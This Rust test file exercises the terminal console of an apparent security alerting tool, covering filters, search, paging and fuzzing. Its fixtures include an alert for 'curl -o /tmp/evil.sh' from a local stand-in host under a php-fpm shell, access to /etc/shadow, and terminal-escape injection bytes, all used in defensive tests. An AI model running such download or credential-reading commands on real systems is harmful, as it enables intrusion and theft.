//! The console on a stage: real keys through the real `update`, answers from a scripted world, pictures on a
//! `TestBackend`. A case is a world, a size and keys.

#![expect(clippy::unwrap_used, reason = "tests")]

use std::sync::Arc;
use std::time::Duration;

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use eyas_event::{Alert, AlertId, Priority, Process, WallTime};
use proptest::prelude::*;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::buffer::Buffer;
use ratatui::layout::Size;

use super::door::{Ask, Gap, Pulse, Reload, Reply, Sensor, Ticket};
use super::draw::draw;
use super::msg::{Effect, Msg};
use super::overlay::{Layer, Verdict};
use super::state::{Ctx, State};
use super::theme::{ColorDepth, Theme};
use super::update::{open, update};
use super::world::{self, World, alert, incident, made, pulse};
use super::zone::Zone;

struct Stage {
    state: State,
    ctx: Ctx,
    world: World,
    /// Effects other than questions.
    out: Vec<Effect>,
    /// Questions, kept while the world does not answer.
    asked: Vec<Ask>,
    silent: bool,
}

impl Stage {
    fn new(width: u16, height: u16, world: World) -> Self {
        let alerts = world.alerts.len() as u64;
        Self::with_pulse(width, height, world, pulse(alerts))
    }

    fn with_pulse(width: u16, height: u16, world: World, pulse: Pulse) -> Self {
        let themes = Theme::names().map(|n| Theme::built_in(n, ColorDepth::True).unwrap()).collect();
        let ctx = Ctx { zone: Zone::utc(), themes };
        let state = State::new(Size::new(width, height), Arc::new(pulse));
        let mut stage = Self { state, ctx, world, out: Vec::new(), asked: Vec::new(), silent: false };
        let effects = open(&mut stage.state, &stage.ctx);
        stage.carry_out(effects);
        stage.tick(1_000);
        stage
    }

    fn send(&mut self, msg: Msg) {
        let effects = update(&mut self.state, msg, &self.ctx);
        self.carry_out(effects);
    }

    fn carry_out(&mut self, effects: Vec<Effect>) {
        for effect in effects {
            match effect {
                Effect::Ask(ask) if self.silent => self.asked.push(ask),
                Effect::Ask(ask) => {
                    let reply = self.world.answer(&ask.question);
                    self.send(Msg::Reply(ask.ticket, reply));
                }
                other => self.out.push(other),
            }
        }
    }

    fn tick(&mut self, ms: u64) {
        self.send(Msg::Tick(self.state.now_ms + ms));
    }

    /// Presses keys: words are keys by name, `"…"` is typed letter by letter.
    fn keys(&mut self, keys: &str) -> &mut Self {
        let mut rest = keys.trim();
        while !rest.is_empty() {
            if let Some(quoted) = rest.strip_prefix('\'') {
                let (text, after) = quoted.split_once('\'').unwrap();
                for c in text.chars() {
                    self.send(Msg::Key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE)));
                }
                rest = after.trim_start();
                continue;
            }
            let (name, after) = rest.split_once(' ').unwrap_or((rest, ""));
            self.send(Msg::Key(key(name)));
            rest = after.trim_start();
        }
        self
    }

    fn buffer(&self) -> Buffer {
        let size = self.state.size;
        let mut terminal = Terminal::new(TestBackend::new(size.width, size.height)).unwrap();
        let theme = &self.ctx.themes[self.state.theme];
        terminal.draw(|f| draw(&self.state, &self.ctx, theme, f.buffer_mut())).unwrap();
        terminal.backend().buffer().clone()
    }

    fn screen(&self) -> String {
        let buffer = self.buffer();
        let mut out = String::new();
        for y in 0..buffer.area.height {
            let line: String = (0..buffer.area.width).map(|x| buffer[(x, y)].symbol()).collect();
            out.push_str(line.trim_end());
            out.push('\n');
        }
        out
    }

    fn shows(&self, text: &str) {
        let screen = self.screen();
        assert!(screen.contains(text), "`{text}` is not on the screen:\n{screen}");
    }

    fn selected(&self) -> AlertId {
        self.state.rows.selected_id().unwrap()
    }
}

fn key(name: &str) -> KeyEvent {
    let (name, modifiers) = match name.strip_prefix("ctrl-") {
        Some(rest) => (rest, KeyModifiers::CONTROL),
        None => (name, KeyModifiers::NONE),
    };
    let code = match name {
        "Enter" => KeyCode::Enter,
        "Esc" => KeyCode::Esc,
        "Tab" => KeyCode::Tab,
        "Up" => KeyCode::Up,
        "Down" => KeyCode::Down,
        "Left" => KeyCode::Left,
        "Right" => KeyCode::Right,
        "PgUp" => KeyCode::PageUp,
        "PgDn" => KeyCode::PageDown,
        "Home" => KeyCode::Home,
        "End" => KeyCode::End,
        "Backspace" => KeyCode::Backspace,
        "Space" => KeyCode::Char(' '),
        one => KeyCode::Char(one.chars().next().unwrap()),
    };
    KeyEvent::new(code, modifiers)
}

fn told() -> World {
    World { alerts: incident(), ..World::default() }
}

fn check(name: &str, size: (u16, u16), world: World, keys: &str) {
    let mut stage = Stage::new(size.0, size.1, world);
    stage.keys(keys);
    insta::assert_snapshot!(name, stage.screen());
}

#[test]
fn pictures_of_the_list() {
    check("list_80x24", (80, 24), told(), "");
    check("list_120x40", (120, 40), told(), "");
    check("list_40x12", (40, 12), told(), "");
    check("list_dense_120x40", (120, 40), told(), "D k k");
}

#[test]
fn pictures_of_the_details() {
    check("detail_80x24", (80, 24), told(), "k k k k k k Enter");
    check("detail_120x40", (120, 40), told(), "k k k k k k Enter");
    check("detail_40x12", (40, 12), told(), "k k k k k k Enter");
    check("detail_zoomed_80x24", (80, 24), told(), "k k k k k k Enter Z");
    check("detail_rule_120x40", (120, 40), told(), "Enter G");
}

#[test]
fn pictures_of_what_lies_over_it() {
    check("help_80x24", (80, 24), told(), "? 'filter'");
    check("palette_80x24", (80, 24), told(), ": 'th'");
    check("palette_120x40", (120, 40), told(), ":");
    check("hooks_80x24", (80, 24), told(), "S");
    check("filter_wrong_80x24", (80, 24), told(), "f 'proc.name = curl and porc.name = sh'");
    check("filter_good_80x24", (80, 24), told(), "f 'proc.name = curl and user'");
    check("filter_applied_80x24", (80, 24), told(), "f 'proc.name = curl' Enter");
    check("filter_none_80x24", (80, 24), told(), "f 'proc.name = nope' Enter");
    check("search_80x24", (80, 24), told(), "/ 'shadow'");
    check("filter_wrong_40x12", (40, 12), told(), "f 'proc.name = curl and porc.name = sh'");
    check("help_40x12", (40, 12), told(), "?");
}

#[test]
fn pictures_of_nothing() {
    check("empty_80x24", (80, 24), World::default(), "");
    for (name, sensor, rules) in [
        ("empty_off_80x24", Sensor::Off("not started as root".into()), 14),
        ("empty_degraded_80x24", Sensor::Degraded("1 of 3 hooks is off".into()), 14),
        ("empty_no_rules_80x24", Sensor::On, 0),
    ] {
        let stage = Stage::with_pulse(80, 24, World::default(), Pulse { sensor, rules, ..pulse(0) });
        insta::assert_snapshot!(name, stage.screen());
    }
}

#[test]
fn pictures_of_trouble() {
    let mut world = told();
    world.gaps.push(Gap {
        from: WallTime(world::BEGIN + 45_000_000_000),
        to: WallTime(world::BEGIN + 52_000_000_000),
        count: 1_204,
        why: "kernel ring full".to_owned(),
    });
    let reload = Reload {
        at: WallTime(world::BEGIN),
        text: "error[E0203]: there is no field `porc.name`\n --> rules/mine.yaml:12:9\n12 |   porc.name = sh\n   |   ^^^^^^^^^\nwarning: unused macro".to_owned(),
        errors: 1,
        warnings: 1,
        applied: false,
    };
    let bad =
        Pulse { lost: 1_204, store_lag: Duration::from_millis(2_300), reload: Some(reload), ..pulse(11) };
    let mut stage = Stage::with_pulse(120, 40, world, pulse(11));
    stage.send(Msg::Pulse(Arc::new(bad)));
    stage.tick(1_000);
    insta::assert_snapshot!("loss_120x40", stage.screen());
    stage.keys("R");
    insta::assert_snapshot!("reload_120x40", stage.screen());
}

#[test]
fn hostile_bytes_stay_inside_their_cells() {
    let hostile = b"\x1b[2J\x1b]0;owned\x07\nevil\r\xff\xfe\xe2\x80\xaexcod.exe\t\xc2\x9b31m";
    let long =
        "x".repeat(5_000) + &"日本語".repeat(2_000) + &"e\u{301}\u{301}\u{301}\u{301}\u{301}".repeat(50);
    let own = |argv: &[u8]| Process {
        key: eyas_event::ProcessKey { pid: 1, start: 1 },
        comm: hostile[..15].into(),
        argv: argv.into(),
        exe_path: (*hostile).into(),
        cwd: (*hostile).into(),
        container: String::from_utf8_lossy(hostile).into(),
        ..Process::default()
    };
    let text = String::from_utf8_lossy(hostile).into_owned();
    let mut argv = b"x\0".to_vec();
    argv.extend_from_slice(hostile);
    argv.push(0);
    argv.extend_from_slice(long.as_bytes());
    argv.push(0);
    let mut first = made(1, Priority::Critical, &text, &text, own(&argv), format!("{text}{long}"));
    first.fields.push((text.clone(), eyas_event::OutputValue::Text(long.clone())));
    first.tags = Arc::from([text.clone().into(), long.clone().into()]);
    let second = made(
        2,
        Priority::Error,
        &long,
        &long,
        own(b"\xf0\x9f\x98\x80 \xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9\0"),
        long.clone(),
    );
    let world = World { alerts: vec![Arc::new(first), Arc::new(second)], ..World::default() };
    let mut hostile_pulse = pulse(2);
    hostile_pulse.node = text.as_str().into();
    hostile_pulse.sensor = Sensor::Degraded(text.clone());
    for (name, size) in
        [("hostile_80x24", (80, 24)), ("hostile_120x40", (120, 40)), ("hostile_40x12", (40, 12))]
    {
        let mut stage = Stage::with_pulse(size.0, size.1, world.clone(), hostile_pulse.clone());
        stage.keys("k Enter");
        insta::assert_snapshot!(name, stage.screen());
        for _ in 0..60 {
            harmless(&stage.buffer());
            stage.keys("j");
        }
        stage.keys("Esc / 'evil' Enter : 'x'");
        harmless(&stage.buffer());
    }
}

fn harmless(buffer: &Buffer) {
    for cell in buffer.content() {
        let symbol = cell.symbol();
        assert_eq!(
            eyas_event::text::escape(symbol.as_bytes()),
            symbol,
            "a cell has something a terminal acts on"
        );
        assert!(symbol.chars().count() <= 5, "a cell has a heap of marks: {symbol:?}");
    }
}

#[test]
fn enter_shows_the_line_of_ancestors_and_the_full_command() {
    let mut stage = Stage::new(120, 40, told());
    stage.keys("g j Enter");
    for text in [
        "1 systemd splash",
        "1190 php-fpm8.2",
        "2117 sh -c curl -o",
        "4012 curl -o /tmp/evil.sh",
        "rules/eyas.yaml:41",
    ] {
        let all = stage.state.detail.as_ref().unwrap().lines(200, &stage.ctx.zone);
        let all: String =
            all.iter().flat_map(|l| l.parts.iter().map(|(_, t)| t.as_str()).chain(["\n"])).collect();
        assert!(all.contains(text), "{text}:\n{all}");
    }
    stage.shows("4012 curl -o /tmp/evil.sh");
    stage.keys("Esc");
    assert!(stage.state.detail.is_none());
}

#[test]
fn the_list_shows_full_command_lines_at_120x40() {
    let stage = Stage::new(120, 40, told());
    stage.shows("curl -o /tmp/evil.sh http://127.0.0.1:8000/evil.sh   ← sh ← php-fpm8.2");
    stage.shows("c /etc/shadow");
}

#[test]
fn include_and_exclude_take_the_value_under_the_cursor() {
    let mut stage = Stage::new(120, 40, told());
    stage.keys("g j i");
    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, "proc.name = curl");
    assert_eq!(stage.state.rows.len(), 2);
    stage.keys("l x");
    assert_eq!(
        &*stage.state.filter.as_ref().unwrap().text,
        "proc.name = curl and container.id != 3f2a9c81d07e"
    );
    stage.shows("No alert meets the filter.");
    stage.keys("Esc");
    assert!(stage.state.filter.is_none());
    assert_eq!(stage.state.rows.len(), 11);
    stage.keys("h h h h h i");
    stage.shows("move the cursor");
    // In the details, a field's line.
    stage.keys("g Enter ] ] ] ] j j i");
    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, "evt.type = execve");
}

#[test]
fn a_value_with_blanks_and_quotes_finds_its_alert_again() {
    let own = Process { comm: (*b"a \"b\", (c)\\").into(), container: "host".into(), ..Process::default() };
    let world = World {
        alerts: vec![Arc::new(made(1, Priority::Error, "R", "root", own, "m".into())), Arc::new(alert(2))],
        ..World::default()
    };
    let mut stage = Stage::new(80, 24, world);
    stage.keys("g i");
    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, r#"proc.name = "a \"b\", (c)\\""#);
    assert_eq!(stage.state.rows.len(), 1);
}

#[test]
fn new_alerts_keep_a_follower_at_the_newest_and_leave_others_in_peace() {
    let mut stage = Stage::new(80, 24, told());
    stage.send(Msg::Alerts(vec![Arc::new(alert(100))]));
    assert_eq!(stage.selected(), alert(100).id);
    stage.keys("k k");
    let chosen = stage.selected();
    stage.send(Msg::Alerts(vec![Arc::new(alert(101)), Arc::new(alert(102))]));
    assert_eq!(stage.selected(), chosen);
    stage.shows("2 new");
    stage.keys("G");
    assert_eq!(stage.selected(), alert(102).id);
}

#[test]
fn pause_holds_the_screen_and_counts() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("p");
    let before: String = stage.screen().lines().skip(1).collect();
    stage.send(Msg::Alerts((100..112).map(|n| Arc::new(alert(n))).collect()));
    let screen = stage.screen();
    assert!(screen.contains("12 new held"), "{screen}");
    assert!(screen.contains("PAUSED"));
    assert_eq!(before, screen.lines().skip(1).collect::<String>(), "nothing but the count moves");
    stage.keys("p");
    assert_eq!(stage.state.rows.len(), 23);
    assert_eq!(stage.selected(), alert(111).id);
}

#[test]
fn a_filter_is_checked_while_it_is_typed_and_its_mistakes_are_marked() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("f 'proc.nam = curl'");
    stage.shows("^^^^^^^^");
    stage.shows("there is no field `proc.nam`");
    stage.keys("Enter");
    assert!(stage.state.filter.is_none(), "a wrong filter is not applied");
    stage.keys("Home");
    for _ in 0..8 {
        stage.keys("Right");
    }
    stage.keys("Tab");
    stage.shows("2 alerts meet it");
    stage.keys("Enter");
    assert_eq!(stage.state.rows.len(), 2);
    stage.shows("2 matches stored");
}

#[test]
fn enter_before_the_answer_applies_when_it_comes() {
    let mut stage = Stage::new(80, 24, told());
    stage.silent = true;
    stage.keys("f 'proc.name = sh' Enter");
    assert!(stage.state.filter.is_none());
    let asked = std::mem::take(&mut stage.asked);
    stage.silent = false;
    // Stale answers change nothing, whatever they say.
    let last = asked.last().unwrap().clone();
    for ask in &asked[..asked.len() - 1] {
        stage.send(Msg::Reply(ask.ticket, Reply::Filter { text: "x".into(), result: Ok(7) }));
    }
    assert!(stage.state.filter.is_none());
    stage.send(Msg::Reply(last.ticket, stage.world.answer(&last.question)));
    assert_eq!(&*stage.state.filter.as_ref().unwrap().text, "proc.name = sh");
}

#[test]
fn under_a_filter_new_alerts_come_from_the_store() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("f 'proc.name = bash' Enter");
    assert_eq!(stage.state.rows.len(), 1);
    let new = Arc::new(alert(100));
    let other = Arc::new(world::shell(101, Priority::Error, "R", "dash"));
    stage.world.alerts.extend([new.clone(), other.clone()]);
    stage.send(Msg::Alerts(vec![new.clone(), other]));
    assert_eq!(stage.state.rows.len(), 1);
    stage.tick(100);
    assert_eq!(stage.state.rows.len(), 2);
    assert_eq!(stage.selected(), new.id);
}

#[test]
fn what_the_lane_left_out_is_read_from_the_store() {
    let mut stage = Stage::new(80, 24, told());
    stage.world.alerts.push(Arc::new(alert(100)));
    stage.send(Msg::Pulse(Arc::new(pulse(12))));
    assert_eq!(stage.state.rows.len(), 11, "it may still be on its way");
    stage.send(Msg::Pulse(Arc::new(pulse(12))));
    assert_eq!(stage.state.rows.len(), 12);
}

#[test]
fn a_burst_larger_than_a_page_is_read_whole_and_once() {
    let mut stage = Stage::new(80, 24, World::default());
    let burst: Vec<Arc<Alert>> = (0..1_700)
        .map(|n| {
            let mut a = alert(1);
            a.id = AlertId::new(a.time, n);
            Arc::new(a)
        })
        .collect();
    stage.world.alerts = burst;
    stage.keys("f 'proc.name = bash' Enter");
    stage.send(Msg::Alerts(stage.world.alerts.clone()));
    for _ in 0..3 {
        stage.tick(100);
    }
    assert_eq!(stage.state.rows.len(), 1_700);
    assert!(stage.state.pending.page.is_none(), "and then it is quiet");
}

#[test]
fn older_alerts_come_page_by_page() {
    let world = World { alerts: (0..1_200).map(|n| Arc::new(alert(n))).collect(), ..World::default() };
    let mut stage = Stage::new(80, 24, world);
    assert_eq!(stage.state.rows.len(), 500);
    stage.keys("g");
    assert_eq!(stage.state.rows.len(), 1_000);
    stage.keys("g");
    assert_eq!((stage.state.rows.len(), stage.state.rows.older), (1_200, false));
    stage.keys("g");
    assert_eq!(stage.selected(), alert(0).id);
}

#[test]
fn search_goes_from_match_to_match() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("g / 'curl' Enter");
    let first = stage.selected();
    assert_eq!(first, incident()[1].id);
    stage.keys("n");
    assert_eq!(stage.selected(), incident()[8].id);
    stage.keys("n");
    assert_eq!(stage.selected(), first);
    stage.shows("Went on from the top.");
    stage.keys("N");
    assert_eq!(stage.selected(), incident()[8].id);
    stage.keys("Esc");
    assert!(stage.state.search.is_none());
}

#[test]
fn urgent_alerts_can_be_gone_through() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("g e e");
    assert_eq!(stage.selected(), incident()[4].id);
    stage.keys("E");
    assert_eq!(stage.selected(), incident()[3].id);
}

#[test]
fn the_palette_runs_what_has_no_key() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys(": 'theme light' Enter");
    assert_eq!(stage.ctx.themes[stage.state.theme].name(), "light");
    stage.keys(": 'debug panic' Enter");
    assert_eq!(stage.out, [Effect::Panic]);
}

#[test]
fn leaving() {
    let mut stage = Stage::new(80, 24, told());
    stage.keys("Enter q");
    assert!(stage.out.is_empty() && stage.state.detail.is_none(), "q climbs out first");
    stage.keys("q");
    assert_eq!(stage.out, [Effect::Quit]);
    stage.keys("f ctrl-c");
    stage.send(Msg::Signal);
    assert_eq!(stage.out, [Effect::Quit, Effect::Quit, Effect::Stop]);
}

#[test]
fn a_store_that_fails_says_so_and_stops_nothing() {
    let mut stage = Stage::new(80, 24, World { broken: true, ..told() });
    stage.shows("the disk is full");
    stage.send(Msg::Alerts(incident()));
    stage.keys("Enter");
    let all = stage.state.detail.as_ref().unwrap().lines(78, &stage.ctx.zone);
    assert!(all.iter().any(|l| l.parts.iter().any(|(_, t)| t.contains("could not say: the disk is full"))));
    stage.keys("Esc f 'proc.name = x'");
    assert!(
        matches!(stage.state.layers.last(), Some(Layer::Filter(f)) if matches!(f.verdict, Verdict::Failed(_)))
    );
}

#[test]
fn a_reload_is_told_once() {
    let mut stage = Stage::new(80, 24, told());
    let reload = Reload { at: WallTime(1), text: String::new(), errors: 0, warnings: 0, applied: true };
    let new = Arc::new(Pulse { reload: Some(reload), rules: 15, ..pulse(11) });
    stage.send(Msg::Pulse(new.clone()));
    stage.shows("Rules loaded: 15 in force.");
    stage.tick(10_000);
    stage.send(Msg::Pulse(new));
    assert!(stage.state.notice.is_none());
}

fn any_key() -> impl Strategy<Value = Msg> {
    let code = prop_oneof![
        6 => prop::char::range('!', '~').prop_map(KeyCode::Char),
        1 => any::<char>().prop_map(KeyCode::Char),
        4 => prop::sample::select(vec![
            KeyCode::Enter, KeyCode::Esc, KeyCode::Tab, KeyCode::BackTab, KeyCode::Up, KeyCode::Down, KeyCode::Left,
            KeyCode::Right, KeyCode::PageUp, KeyCode::PageDown, KeyCode::Home, KeyCode::End, KeyCode::Backspace,
            KeyCode::Delete, KeyCode::Char(' '), KeyCode::F(1), KeyCode::F(2), KeyCode::F(4), KeyCode::Char('f'),
            KeyCode::Char(':'), KeyCode::Char('?'), KeyCode::Char('/'),
        ]),
    ];
    (code, prop::bool::weighted(0.1)).prop_map(|(code, ctrl)| {
        Msg::Key(KeyEvent::new(code, if ctrl { KeyModifiers::CONTROL } else { KeyModifiers::NONE }))
    })
}

fn any_msg() -> impl Strategy<Value = Msg> {
    prop_oneof![
        12 => any_key(),
        1 => ".{0,40}".prop_map(Msg::Paste),
        2 => (prop_oneof![0..6_u16, 1..200_u16], prop_oneof![0..6_u16, 1..60_u16])
            .prop_map(|(w, h)| Msg::Resize(Size::new(w, h))),
        2 => (0..3_000_u64).prop_map(Msg::Tick),
        1 => (0..300_u64).prop_map(|n| Msg::Alerts(vec![Arc::new(alert(n))])),
        1 => (0..40_u64).prop_map(|n| Msg::Pulse(Arc::new(Pulse { lost: n / 2, ended: n > 30, ..pulse(n) }))),
        1 => (0..60_u64).prop_map(|n| Msg::Reply(Ticket(n), Reply::Page(vec![Arc::new(alert(n))]))),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn nothing_that_happens_panics_and_drawing_changes_nothing(
        msgs in prop::collection::vec(any_msg(), 1..80),
        silent in any::<bool>(),
        filled in any::<bool>(),
    ) {
        let mut stage = Stage::new(80, 24, if filled { told() } else { World::default() });
        stage.silent = silent;
        for msg in msgs {
            let msg = match msg {
                // Time does not go back.
                Msg::Tick(by) => Msg::Tick(stage.state.now_ms + by),
                other => other,
            };
            stage.send(msg);
            let first = stage.buffer();
            prop_assert_eq!(&first, &stage.buffer());
            harmless(&first);
        }
    }
}

#[test]
fn every_size_can_be_drawn() {
    for keys in ["", "Enter", "f 'x'", "?", ":", "S", "/ 'a'"] {
        let mut stage = Stage::new(80, 24, told());
        stage.keys(keys);
        for (width, height) in (0..45).flat_map(|w| (0..26).map(move |h| (w, h))) {
            stage.send(Msg::Resize(Size::new(width, height)));
            let _ = stage.buffer();
        }
    }
}
